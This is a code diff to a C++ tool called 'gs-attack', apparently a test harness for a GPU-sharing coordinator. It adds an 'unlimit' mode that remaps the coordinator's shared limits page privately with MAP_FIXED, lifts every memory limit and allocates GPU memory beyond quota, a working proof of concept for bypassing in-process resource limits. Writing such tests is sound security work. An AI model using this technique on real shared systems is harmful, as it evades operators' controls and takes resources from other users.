@@ -22,6 +22,11 @@
 //                               LM_ID_NEWLM) and lets it allocate N x SIZE
 //                               by ROUTE = direct (cuMemAlloc_v2 linked) or
 //                               resolver (dlopen + dlsym + cuGetProcAddress)
+//   gs-attack unlimit N SIZE    waits for the coordinator's limits page,
+//                               maps a private copy over it (MAP_FIXED) with
+//                               every limit lifted, then allocates N x SIZE
+//                               with cuMemAlloc: the in-process limit is gone,
+//                               only the coordinator's own view is left
 //   gs-attack used DEVICE       prints the device's used bytes as NVML
 //                               reports them (run outside any job: the view
 //                               from outside)
@@ -36,6 +41,8 @@
 #include <cuda.h>
 #include <cudaTypedefs.h>
 #include <dlfcn.h>
+#include <sys/mman.h>
+#include <unistd.h>
 
 #include <cstdint>
 #include <cstdio>
@@ -43,6 +50,8 @@
 #include <cstring>
 #include <string>
 #include <string_view>
+
+#include "coord/control_block.h"
 
 namespace {
 
@@ -201,6 +210,49 @@ int loader(const char* argv0, const char* how, const char* route, int count, std
   return 0;
 }
 
+// The start of the mapping of the coordinator's limits page, or 0.
+std::uintptr_t limits_page() {
+  FILE* maps = std::fopen("/proc/self/maps", "r");
+  if (maps == nullptr) return 0;
+  char line[512];
+  std::uintptr_t start = 0;
+  while (start == 0 && std::fgets(line, sizeof line, maps) != nullptr) {
+    if (std::strstr(line, "memfd:gpushare-limits") != nullptr) {
+      start = static_cast<std::uintptr_t>(std::strtoull(line, nullptr, 16));
+    }
+  }
+  std::fclose(maps);
+  return start;
+}
+
+int unlimit(int count, std::uint64_t size) {
+  // Registration is asynchronous: wait for the page, with a generous deadline.
+  std::uintptr_t page = 0;
+  for (int tries = 0; tries < 1000 && (page = limits_page()) == 0; ++tries) usleep(10000);
+  if (page == 0) die("no limits page: is the job registered with a coordinator?");
+  auto* shared = reinterpret_cast<gpushare::coord::LimitsPage*>(page);
+  alignas(4096) static unsigned char copy[gpushare::coord::kControlPageBytes];
+  std::memcpy(copy, shared, sizeof copy);
+  void* replaced = mmap(shared, sizeof copy, PROT_READ | PROT_WRITE,
+                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+  if (replaced != shared) die("mmap(MAP_FIXED) over the limits page failed");
+  std::memcpy(replaced, copy, sizeof copy);
+  for (auto& device : shared->devices) device.mem_limit_bytes.store(UINT64_MAX);
+  auto alloc = bind<PFN_cuMemAlloc_v3020>("cuMemAlloc_v2");
+  std::uint64_t held = 0;
+  CUresult result = CUDA_SUCCESS;
+  for (int i = 0; i < count && result == CUDA_SUCCESS; ++i) {
+    CUdeviceptr pointer = 0;
+    result = alloc(&pointer, size);
+    if (result == CUDA_SUCCESS) held += size;
+  }
+  std::printf("unlimit held=%llu result=%d\n", static_cast<unsigned long long>(held),
+              static_cast<int>(result));
+  std::fflush(stdout);
+  hold();
+  return 0;
+}
+
 int device_used(int index) {
   struct Memory {
     unsigned long long total, free, used;
@@ -237,6 +289,10 @@ int main(int argc, char** argv) {
     die("cannot initialise device 0");
   }
   std::string_view attack = argv[1];
+  if (attack == "unlimit") {
+    if (argc < 4) die("usage: gs-attack unlimit N SIZE");
+    return unlimit(std::atoi(argv[2]), parse_bytes(argv[3]));
+  }
   if (attack == "loader") {
     if (argc < 6) die("usage: gs-attack loader deepbind|newlm direct|resolver N SIZE");
     return loader(argv[0], argv[2], argv[3], std::atoi(argv[4]), parse_bytes(argv[5]));
